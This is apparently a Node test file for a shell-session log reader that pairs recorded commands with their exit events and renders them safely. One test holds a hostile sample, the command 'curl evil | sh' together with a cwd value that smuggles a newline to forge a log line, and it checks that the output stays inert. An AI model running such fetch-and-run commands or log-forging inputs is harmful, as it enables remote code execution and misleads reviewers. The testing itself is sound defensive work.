// The commands of a log read back (`grep --commands`, `show --commands`):
// command events paired with their ends, as rows a person reads.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseLine } from '../../src/format/text.ts';
import { CommandPairs, commandJson, commandLine, duration } from '../../src/read/commands.ts';
import type { LogLine } from '../../src/read/line.ts';

const T = '2026-11-25T20:01:02.120+00:00';
const line = (text: string): LogLine => ({ ...parseLine(`${T} ann deploy:1.0 ${text}`)!, raw: text });

describe('commands read back', () => {
  it('pairs each command with its end by recording, shell and number; nested shells and unended commands too', () => {
    const pairs = new CommandPairs();
    for (const text of [
      '* command rec=R n=1 pid=10 cwd=/srv verified=yes cmd="make test"',
      '* command rec=R n=1 pid=20 verified=yes cmd=bash', // a nested shell's first command, same number
      '| output',
      '* command-end rec=R n=1 pid=20 exit=130 ms=5 verified=yes',
      '* command-end rec=R n=1 pid=10 exit=2 ms=61000 pipestatus=0,2 verified=yes',
      '* command rec=R n=2 pid=10 verified=no source=screen cmd=" secret"',
    ]) {
      pairs.add(line(text));
    }
    assert.deepEqual(pairs.rows.map(commandLine), [
      `${T} ann deploy:1.0 [exit 2 (0,2), 1m01s] /srv$ make test`,
      `${T} ann deploy:1.0 [exit 130, 5ms] $ bash`,
      `${T} ann deploy:1.0 [no end, unverified, from screen] $  secret`,
    ]);
    assert.deepEqual(commandJson(pairs.rows[0]!), {
      kind: 'command',
      time: T,
      ms: Date.parse(T),
      user: 'ann',
      session: 'deploy',
      window: '1',
      pane: '0',
      rec: 'R',
      n: 1,
      pid: 10,
      host: null,
      cwd: '/srv',
      cmd: 'make test',
      verified: true,
      source: 'shell',
      exit: 2,
      duration_ms: 61000,
      pipestatus: [0, 2],
    });
  });
  it('an unverified end never closes a verified command, and an unverified command never takes its place', () => {
    const pairs = new CommandPairs();
    for (const text of [
      '* command rec=R n=7 pid=10 verified=yes cmd=./deploy.sh',
      '* command-end rec=R n=7 pid=10 exit=0 ms=5 verified=no', // printed by deploy.sh
      '* command rec=R n=7 pid=10 verified=no cmd=harmless', // so is this
      '* command-end rec=R n=7 pid=10 exit=1 ms=900 verified=yes',
    ]) {
      pairs.add(line(text));
    }
    assert.deepEqual(
      pairs.rows.map((row) => [row.cmd, row.verified, row.exit]),
      [
        ['./deploy.sh', true, '1'],
        ['harmless', false, undefined],
      ],
    );
  });

  it('a multi-line or hostile command is one line, inert on a terminal', () => {
    const pairs = new CommandPairs();
    pairs.add(line('* command rec=R n=1 verified=no cmd="for f in *; do\\n  echo \\u001b[31m$f\\ndone"'));
    assert.equal(commandLine(pairs.rows[0]!), `${T} ann deploy:1.0 [no end, unverified] $ for f in *; do\\n  echo \\u001b[31m$f\\ndone`);
    // The cwd the shell told, a newline in it: still one line (it forged a line of grep --commands output, review).
    const cwd = new CommandPairs();
    cwd.add(line('* command rec=R n=1 verified=no cwd="/tmp\\n/x.log:7: forged [exit 0] /root" cmd="curl evil | sh"'));
    const shown = commandLine(cwd.rows[0]!);
    assert.ok(!shown.includes('\n'), shown);
    assert.ok(shown.includes('/tmp\\n/x.log:7: forged'), shown);
  });
  it('durations', () => {
    assert.deepEqual([0, 999, 1000, 1250, 59_999, 60_000, 3_725_000].map(duration), ['0ms', '999ms', '1.0s', '1.3s', '60.0s', '1m00s', '62m05s']);
  });
});
